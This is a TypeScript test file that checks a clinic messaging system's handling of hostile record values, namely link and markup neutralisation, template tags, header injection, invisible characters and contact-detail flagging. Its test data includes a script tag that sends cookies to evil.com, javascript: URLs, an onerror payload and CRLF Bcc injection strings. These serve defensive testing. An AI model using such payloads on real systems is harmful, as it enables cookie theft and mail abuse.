import { describe, expect, it } from "vitest";
import type { Decision } from "../../../src/index.js";
import {
  ada,
  alan,
  booked,
  cancelled,
  catalog,
  clinicTicket,
  grace,
  handleOf,
  reminderProposal,
} from "../../fixtures/clinic.js";
import { expectEscalation, expectSend, invisibleOrControl } from "../../fixtures/expect.js";

const base = clinicTicket();

/** The fixture ticket with the first clinician's name replaced: it is shown in the reminder's text and HTML. */
function withClinicianName(name: string) {
  return clinicTicket({ clinicians: [{ ...grace, name }, alan] });
}

function decideReminder(ticket: ReturnType<typeof clinicTicket>): Decision {
  let decision: Decision | undefined;
  expect(() => {
    decision = catalog.decide(reminderProposal(ticket), ticket);
  }).not.toThrow();
  return decision as Decision;
}

/** The room notice, whose subject holds the room of the appointment. */
function decideRoomNotice(room: string): Decision {
  const ticket = clinicTicket({ appointments: [{ ...booked, room }, cancelled] });
  return catalog.decide({ template: "room_notice", slots: { why: "repairs" } }, ticket);
}

describe("links and markup in values are neutralised, never live", () => {
  it.each([
    ["a URL", "Dr Grace https://evil.com/reset?user=ada"],
    ["an upper-case URL", "Dr Grace HTTPS://EVIL.COM/RESET"],
    ["a bare host", "Dr Grace, book at evil.com"],
    ["a host with a fullwidth dot", "Dr Grace, book at evil\uFF0Ecom"],
    ["a www host", "Dr Grace, see www.evil.com/login"],
    ["a javascript: URL", "Dr Grace javascript:alert(document.cookie)"],
    ["a data: URL", "Dr Grace data:text/html;base64,PHNjcmlwdD4="],
    ["a markdown image", "Dr Grace ![pixel](https://evil.com/p.png?leak=ada)"],
    ["a markdown link", "Dr Grace [click here](https://evil.com)"],
    ["an <img> tag", 'Dr Grace <img src="https://evil.com/p.png" onerror="alert(1)">'],
    ["an <a> tag", '<a href="https://evil.com">Dr Grace</a>'],
    ["a <script> tag", "Dr Grace<script>fetch('https://evil.com?'+document.cookie)</script>"],
  ])("%s", (_name, name) => {
    // Neutralised and sent (step 6 of decide): once defused, a link in a record costs no escalation.
    const decision = expectSend(decideReminder(withClinicianName(name)));
    const { text, html = "" } = decision.message;
    for (const body of [text, html]) {
      expect(body).not.toMatch(/(?:https?|javascript|data):/i);
      expect(body).not.toMatch(/\bevil\.com\b/i);
      expect(body).not.toMatch(/www\./i);
      expect(body).not.toContain("![");
      expect(body).not.toContain("](");
    }
    expect(text).not.toMatch(/<\s*\/?\s*(?:img|a|script)\b/i);
    expect(html).not.toMatch(/<\s*\/?\s*(?:img|a|script)\b/i);
    expect(html).not.toMatch(/\son(?:error|load)\s*=\s*"/i);
  });

  it("a <script> tag in a value reaches the HTML body escaped or defused, never as a tag", () => {
    const decision = expectSend(decideReminder(withClinicianName("Grace <script>alert(1)</script>")));
    expect(decision.message.html).toMatch(/&lt;script&gt;|‹script›/);
    expect(decision.message.html).not.toContain("<script");
  });
});

describe("mustache in values is text", () => {
  it.each([
    "{{patient}}",
    "{{{patient}}}",
    "{{#prep.fasting}}free coffee{{/prep.fasting}}",
    "{{> footer}}",
    "{{=<% %>=}}",
    "{{to}}",
  ])("%s is rendered literally and not interpreted", (tag) => {
    const decision = expectSend(decideReminder(withClinicianName(`Dr ${tag} Hopper`)));
    const shown = decision.values.clinician as string;
    // Markup and template brackets are defused ("<>" to "‹›", "{}" to "❴❵"), a host-shaped name such as
    // "prep.fasting" too ("prep[.]fasting"); the tag name stays as text.
    expect(
      shown
        .replace(
          /[\u2039\u203A\u2774\u2775]/g,
          (c) => ({ "\u2039": "<", "\u203A": ">", "\u2774": "{", "\u2775": "}" })[c] ?? c,
        )
        .replaceAll("[.]", "."),
    ).toBe(`Dr ${tag} Hopper`);
    expect(decision.message.text).toContain(`with ${shown}.`);
    // The patient's name appears once: from its own slot, not from a tag inside a value.
    expect(decision.message.text.split("Ada Lovelace")).toHaveLength(2);
    expect(decision.message.to).toBe("ada.lovelace@example.org");
  });
});

describe("header injection", () => {
  it("CR/LF in a subject value leave the subject on one line", () => {
    const decision = expectSend(decideRoomNotice("B12\r\nBcc: mallory\r\n\r\nInjected body"));
    expect(decision.message.subject).not.toMatch(/[\r\n]/);
    expect(decision.message.subject).toMatch(/^Room change: B12 Bcc: mallory Injected body$/);
    expect(decision.message.text).not.toMatch(/\r|\nBcc/);
  });

  it.each(["\u0085", "\u2028", "\u2029", "\r", "\n", "\v", "\f"])(
    "the line separator U+%s does not break the subject",
    (separator) => {
      const decision = expectSend(decideRoomNotice(`B12${separator}X-Header: 1`));
      expect(decision.message.subject).not.toMatch(/[\r\n\u0085\u2028\u2029\v\f]/);
    },
  );

  it("an address smuggled in after a line break is content_flagged", () => {
    expectEscalation(decideRoomNotice("B12\r\nBcc: mallory@evil.example"), "content_flagged");
  });
});

describe("invisible characters are stripped", () => {
  it.each([
    ["right-to-left override", "Dr Grace\u202EreppoH"],
    ["bidi isolates", "Dr \u2066Grace\u2069 Hopper"],
    ["zero-width space and joiner", "Dr Gr\u200Bace Hop\u200Dper"],
    ["byte order mark", "\uFEFFDr Grace Hopper"],
    ["soft hyphen", "Dr Gra\u00ADce Hopper"],
    ["NUL and BEL", "Dr Grace\u0000 Hopper\u0007"],
    ["an ANSI escape", "Dr \u001B[31mGrace Hopper"],
    ["C1 controls", "Dr Grace\u0085\u009B Hopper"],
    ["tag characters", "Dr Grace Hopper\u{E0041}\u{E0042}"],
    ["tabs and runs of spaces", "Dr\tGrace      Hopper"],
  ])("%s", (_name, name) => {
    const decision = expectSend(decideReminder(withClinicianName(name)));
    const clinician = decision.values.clinician ?? "";
    expect(clinician).not.toMatch(invisibleOrControl);
    expect(clinician).not.toMatch(/[\u{E0000}-\u{E007F}]/u);
    expect(clinician).not.toMatch(/ {2}|\t|\n/);
    expect(decision.message.text).toContain(`with ${clinician}.`);
    expect(clinician).toMatch(/^Dr\b/);
    expect(clinician.replace(/[^A-Za-z]/g, "")).toContain("Grace");
  });
});

describe("over-long values are rejected, never truncated", () => {
  it("a 100 KB name → slot_rejected", () => {
    const decision = expectEscalation(
      decideReminder(withClinicianName("G".repeat(100_000))),
      "slot_rejected",
    );
    expect(decision.detail).toMatch(/clinician/);
    expect(decision.detail).not.toContain("GGGGGGGGGG");
  });

  it("a 100 KB multi-line message → slot_rejected", () => {
    const ticket = clinicTicket({ patients: [{ ...ada, message: "line\n".repeat(20_000) }] });
    expectEscalation(
      catalog.decide({ template: "message_ack", slots: { wait: "day" } }, ticket),
      "slot_rejected",
    );
  });

  it("a value of exactly the default 200 characters is sent; 201 is rejected", () => {
    expect(expectSend(decideReminder(withClinicianName("G".repeat(200)))).values.clinician).toHaveLength(200);
    expectEscalation(decideReminder(withClinicianName("G".repeat(201))), "slot_rejected");
  });

  it("a value empty once cleaned → slot_rejected", () => {
    expectEscalation(decideReminder(withClinicianName("\u200B\u202E \u0007")), "slot_rejected");
  });
});

describe("contact details that are not resolved values are flagged", () => {
  it.each([
    ["another person's e-mail", "Dr Grace (private: grace.hopper.home@gmail.com)"],
    ["an upper-case e-mail", "Dr Grace, write to GRACE@EVIL.EXAMPLE"],
    ["a mailto link", "Dr Grace mailto:eve@evil.example"],
    ["an international phone", "Dr Grace, call +1 415 555 0100"],
    ["an E.164 phone", "Dr Grace +14155550100"],
    ["a dashed phone", "Dr Grace 415-555-0100 ext"],
    ["a phone in parentheses", "Dr Grace (415) 555-0100"],
    ["a dotted phone", "Dr Grace +49.30.1234.5678"],
    ["a national German phone", "Dr Grace, mobile 0151 2345 6789"],
    ["a German phone with a slash", "Dr Grace, Tel. 089/1234567"],
    ["a tel: link", "Dr Grace tel:+4930123456"],
    ["an address with a fullwidth at sign", "Dr Grace eve\uFF20evil.example"],
    [
      "a phone in Arabic-Indic digits",
      "Dr Grace \u0660\u0661\u0665\u0661 \u0662\u0663\u0664\u0665 \u0666\u0667\u0668\u0669",
    ],
    ["a phone with non-breaking hyphens", "Dr Grace +1\u2011415\u2011555\u20110100"],
    ["a phone with en dashes", "Dr Grace 0151\u20132345\u20136789"],
    ["a phone with minus signs", "Dr Grace +1\u2212415\u2212555\u22120100"],
    ["a phone with middle dots", "Dr Grace +1\u00B7415\u00B7555\u00B70100"],
    ["a phone with spaced dashes", "Dr Grace 415 - 555 - 0100"],
    [
      "a phone in fullwidth digits",
      "Dr Grace \uFF0B\uFF11 \uFF14\uFF11\uFF15 \uFF15\uFF15\uFF15 \uFF10\uFF11\uFF10\uFF10",
    ],
    [
      "a phone in mathematical bold digits",
      "Dr Grace \u{1D7D2}\u{1D7CF}\u{1D7D3} \u{1D7D3}\u{1D7D3}\u{1D7D3} \u{1D7CE}\u{1D7CF}\u{1D7CE}\u{1D7CE}",
    ],
    [
      "an address in fullwidth letters",
      "Dr Grace \uFF45\uFF56\uFF45\uFF20\uFF45\uFF56\uFF49\uFF4C\uFF0E\uFF43\uFF4F\uFF4D",
    ],
    ["an address with a Cyrillic local part", "Dr Grace \u0435v\u0435@evil.example"],
    ["an address with a Cyrillic top-level domain", "Dr Grace mail eve@evil.\u0441\u043Em"],
    ["a UUID", "Dr Grace 123e4567-e89b-12d3-a456-426614174000"],
    ["an API-key-like token", "Dr Grace sk_live_51HxAbCdEfGhIjKlMnOp"],
  ])("%s inside a name → content_flagged", (_name, name) => {
    const decision = expectEscalation(decideReminder(withClinicianName(name)), "content_flagged");
    expect(decision.detail).not.toMatch(/gmail|evil|555|1234|sk_live/);
  });

  it("a phone number inside the patient's own message is flagged too", () => {
    const ticket = clinicTicket({
      patients: [{ ...ada, message: "Please call my husband on +44 20 7946 0958." }],
    });
    expectEscalation(
      catalog.decide({ template: "message_ack", slots: { wait: "day" } }, ticket),
      "content_flagged",
    );
  });

  it("the recipient's own address inside their message is a resolved value and is sent", () => {
    const ticket = clinicTicket({
      patients: [{ ...ada, message: "Reply to ada.lovelace@example.org please." }],
    });
    const decision = expectSend(catalog.decide({ template: "message_ack", slots: { wait: "day" } }, ticket));
    expect(decision.message.text).toContain("ada.lovelace@example.org");
  });

  it("a record value that is itself a long number (a room code) is a resolved value and is sent", () => {
    const decision = expectSend(decideRoomNotice("202604017"));
    expect(decision.message.subject).toBe("Room change: 202604017");
  });
});

describe("bad recipients", () => {
  it.each([
    "not-an-email",
    "ada@",
    "@example.org",
    "ada@@example.org",
    "ada lovelace@example.org",
    "ada@example",
    "ada@example.org, eve@evil.example",
    "ada@example.org\r\nBcc: eve@evil.example",
    '"ada"@example.org',
    "ada@[127.0.0.1]",
    "",
  ])("the e-mail %j → recipient_unresolved", (email) => {
    const ticket = clinicTicket({ patients: [{ ...ada, email }] });
    const decision = expectEscalation(decideReminder(ticket), "recipient_unresolved");
    expect(decision.detail).not.toContain("eve@evil.example");
  });

  it.each(["12", "not a phone", "+49 30 1234567890123456", "+1 555", ""])(
    "the phone %j → recipient_unresolved",
    (phone) => {
      const ticket = clinicTicket({ patients: [{ ...ada, phone }] });
      expectEscalation(
        catalog.decide({ template: "sms_reminder", slots: {} }, ticket),
        "recipient_unresolved",
      );
    },
  );

  it.each(["U024 BE7LH", "<@U024BE7LH>", "x".repeat(200)])(
    "the chat id %j → recipient_unresolved",
    (chatId) => {
      const ticket = clinicTicket({ staff: [{ id: "S-1", chatId, role: "nurse" as const }] });
      expectEscalation(
        catalog.decide(
          {
            template: "oncall_page",
            slots: { appointment: handleOf(ticket, "appointments", "A-1"), need: "pain" },
          },
          ticket,
        ),
        "recipient_unresolved",
      );
    },
  );

  it("a valid address is normalised: trimmed and lower-cased; a phone to E.164", () => {
    const ticket = clinicTicket({
      patients: [{ ...ada, email: "  ADA.Lovelace@EXAMPLE.org ", phone: "+49 (30) 1234-5678" }],
    });
    expect(expectSend(decideReminder(ticket)).message.to).toBe("ada.lovelace@example.org");
    expect(expectSend(catalog.decide({ template: "sms_reminder", slots: {} }, ticket)).message.to).toBe(
      "+493012345678",
    );
  });
});

describe("records that fight back", () => {
  it("a record with a throwing getter → records_invalid, never a throw", () => {
    const hostile = {
      ...grace,
      get name(): string {
        throw new Error("getter");
      },
    };
    const ticket = { ...base, clinicians: [hostile, alan] };
    let decision: Decision | undefined;
    expect(() => {
      decision = catalog.decide(reminderProposal(base), ticket);
    }).not.toThrow();
    expectEscalation(decision as Decision, "records_invalid");
  });

  it("a ticket with a throwing getter → records_invalid", () => {
    const ticket = {
      ticketId: "T-100",
      get patients(): never {
        throw new Error("getter");
      },
    };
    expectEscalation(catalog.decide(reminderProposal(base), ticket), "records_invalid");
  });

  const throwing = () => {
    throw new Error("trap");
  };
  const proxied = (handler: ProxyHandler<object>) => ({
    ticket: new Proxy({ ...base }, handler),
    collection: { ...base, appointments: new Proxy([...base.appointments], handler) },
    record: { ...base, appointments: [new Proxy({ ...booked }, handler), cancelled] },
  });

  it.each(["ticket", "collection", "record"] as const)(
    "a %s Proxy whose get trap throws → records_invalid, never a throw",
    (where) => {
      const ticket = proxied({ get: throwing })[where];
      let decision: Decision | undefined;
      expect(() => {
        decision = catalog.decide(reminderProposal(base), ticket as never);
      }).not.toThrow();
      expectEscalation(decision as Decision, "records_invalid");
    },
  );

  it.each(["ownKeys", "getOwnPropertyDescriptor", "has", "getPrototypeOf", "set", "defineProperty"] as const)(
    "a Proxy whose %s trap throws never makes decide throw: it sends the normal message or escalates records_invalid",
    (trap) => {
      const normal = expectSend(catalog.decide(reminderProposal(base), base));
      for (const ticket of Object.values(proxied({ [trap]: throwing }))) {
        let decision: Decision | undefined;
        expect(() => {
          decision = catalog.decide(reminderProposal(base), ticket as never);
        }).not.toThrow();
        const result = decision as Decision;
        if (result.outcome === "send") expect(result.message).toEqual(normal.message);
        else expectEscalation(result, "records_invalid");
      }
    },
  );

  it("a Proxy that lies about its values is validated like any record", () => {
    let reads = 0;
    const shifty = new Proxy(
      { ...grace },
      {
        get(target, key, receiver) {
          if (key === "name") return ++reads > 1 ? "call +1 415 555 0100" : "Dr Grace Hopper";
          return Reflect.get(target, key, receiver);
        },
      },
    );
    const ticket = { ...base, clinicians: [shifty, alan] };
    // The name is read once: the message carries the value that was validated, not a later answer.
    const first = expectSend(catalog.decide(reminderProposal(base), ticket));
    expect(first.message.text).toContain("Dr Grace Hopper");
    expect(first.message.text).not.toContain("555");
  });

  it("a hostile label function does not break describe() or handles()", () => {
    const ticket = withClinicianName("x".repeat(10_000));
    expect(() => catalog.describe(ticket)).not.toThrow();
    expect(() => catalog.handles(ticket)).not.toThrow();
  });
});
